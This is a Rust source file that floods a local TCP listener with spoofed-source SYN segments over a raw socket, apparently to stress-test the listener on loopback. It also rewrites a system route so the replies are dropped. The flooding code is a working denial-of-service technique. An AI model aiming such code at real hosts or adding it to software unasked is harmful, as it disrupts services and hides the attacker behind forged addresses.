//! A SYN flood: segments with made-up sources, as fast as one CPU makes them, to a listener that never hears of them again.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener};
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use socket2::{Domain, Protocol, Socket, Type};

/// Bytes of an IPv4 header and of a TCP header without options.
const IP: usize = 20;
const TCP: usize = TCP_LENGTH as usize;
const TCP_LENGTH: u8 = 20;
const SYN: u8 = 2;
/// Protocol number of TCP.
const PROTOCOL: u8 = 6;

/// Sends for so long and returns the number of segments.
pub fn flood(listener: &TcpListener, duration: Duration) -> Result<u64> {
    let port = listener.local_addr().context("the listener's address")?.port();
    // The answers go to nobody: they are routed to the loopback device, where no such address is.
    let route = Command::new("ip").args(["route", "replace", "10.0.0.0/8", "dev", "lo"]).status().context("ip")?;
    ensure!(route.success(), "ip route: {route}");
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP)).context("a raw socket")?;
    socket.set_header_included_v4(true).context("IP_HDRINCL")?;
    let target = Ipv4Addr::LOCALHOST;
    let to = SocketAddr::V4(SocketAddrV4::new(target, port)).into();
    let (began, mut sent) = (Instant::now(), 0_u64);
    while began.elapsed() < duration {
        for _ in 0..1_000 {
            // Every source is another one: 2^24 addresses, and ports above 1024.
            let [.., a, b, c] = sent.wrapping_mul(2_654_435_761).to_be_bytes();
            let source = Ipv4Addr::new(10, a, b, c);
            let source_port = 1_024 + u16::try_from(sent % 60_000)?;
            // A full queue of the loopback device is as good as a segment that is lost on the way.
            if socket.send_to(&segment((source, source_port), (target, port)), &to).is_ok() {
                sent += 1;
            }
        }
    }
    Ok(sent)
}

fn segment(from: (Ipv4Addr, u16), to: (Ipv4Addr, u16)) -> [u8; IP + TCP] {
    let mut bytes = [0; IP + TCP];
    // The kernel fills in the length, the identification and the checksum of this header.
    bytes[0] = 0x45;
    bytes[8] = 64;
    bytes[9] = PROTOCOL;
    bytes[12..16].copy_from_slice(&from.0.octets());
    bytes[16..20].copy_from_slice(&to.0.octets());
    bytes[20..22].copy_from_slice(&from.1.to_be_bytes());
    bytes[22..24].copy_from_slice(&to.1.to_be_bytes());
    bytes[32] = 5 << 4;
    bytes[33] = SYN;
    bytes[34..36].copy_from_slice(&u16::MAX.to_be_bytes());
    let sum = checksum(&bytes);
    bytes[36..38].copy_from_slice(&sum.to_be_bytes());
    bytes
}

/// Of the TCP header and its pseudo header (RFC 9293, 3.1).
fn checksum(bytes: &[u8; IP + TCP]) -> u16 {
    let words = bytes[12..].chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
    let mut sum = words.sum::<u32>() + u32::from(PROTOCOL) + u32::from(TCP_LENGTH);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_of_a_segment_sums_to_zero() {
        let bytes = segment((Ipv4Addr::new(10, 1, 2, 3), 1_024), (Ipv4Addr::LOCALHOST, 9_000));
        assert_eq!(checksum(&bytes), 0);
    }
}
